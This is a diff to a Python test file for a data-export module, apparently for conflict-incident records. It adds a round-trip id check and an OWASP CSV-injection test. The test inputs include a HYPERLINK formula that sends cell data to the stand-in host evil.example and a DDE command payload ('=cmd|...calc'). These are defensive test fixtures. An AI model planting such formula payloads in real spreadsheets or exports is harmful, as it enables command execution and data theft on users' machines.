@@ -113,10 +113,44 @@ def test_kml_is_valid_xml_with_escaped_text(frames, tmp_path):
     assert dep.find("k:TimeSpan/k:begin", ns).text == "2015-09-14"
 
 
+def _ids_in(data: bytes, fmt: str, tmp_path) -> list[str]:
+    """The row ids an export's bytes hold, read back with the format's own reader."""
+    if fmt == "csv":
+        return sorted(r["event_id"] for r in csv.DictReader(io.StringIO(data.decode("utf-8"))))
+    if fmt == "kml":
+        ns = {"k": KML_NS}
+        root = ET.fromstring(data)
+        return sorted(pm.find("k:ExtendedData/k:Data/k:value", ns).text
+                      for pm in root.findall("k:Document/k:Placemark", ns))
+    path = tmp_path / f"back.{fmt}"
+    path.write_bytes(data)
+    back = gpd.read_parquet(path) if fmt == "parquet" else gpd.read_file(path, engine="pyogrio")
+    return sorted(back["incident_id"])
+
+
 @pytest.mark.parametrize("fmt", FORMATS)
-def test_to_bytes_every_format(frames, fmt):
+def test_to_bytes_every_format(frames, fmt, tmp_path):
     data = to_bytes(frames["incidents"], fmt)
-    assert len(data) > 100
+    assert _ids_in(data, fmt, tmp_path) == ids(frames["incidents"])
+
+
+@pytest.mark.parametrize("evidence", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                                      "+ Coalition aircraft hit a depot.", "-1+2 jets struck.",
+                                      "@SUM(1+1)", "\tTabbed", "\rReturn"])
+def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path, evidence):
+    """OWASP CSV injection: a text cell starting with = + - @ tab or CR is read as text."""
+    s = open_store(tmp_path / "f.db")
+    a = art("f", "=cmd|' /C calc'!A0", evidence)
+    s.save_extraction(a, [ev(a, evidence=evidence, actor="-Russia", lat=-33.5, lon=-70.6)], [])
+    rows = list(csv.DictReader(io.StringIO(to_bytes(events_frame(s, Filters()), "csv").decode("utf-8"))))
+    s.close()
+    row = rows[0]
+    assert row["notes"] == "'" + evidence
+    assert row["actor1"] == "'-Russia"
+    assert row["source"] == "'=cmd|' /C calc'!A0"
+    assert (row["latitude"], row["longitude"]) == ("-33.50000", "-70.60000")   # numbers stay numbers
+    for value in row.values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value in ("-33.50000", "-70.60000")
 
 
 def test_unknown_format_is_refused(frames, tmp_path):
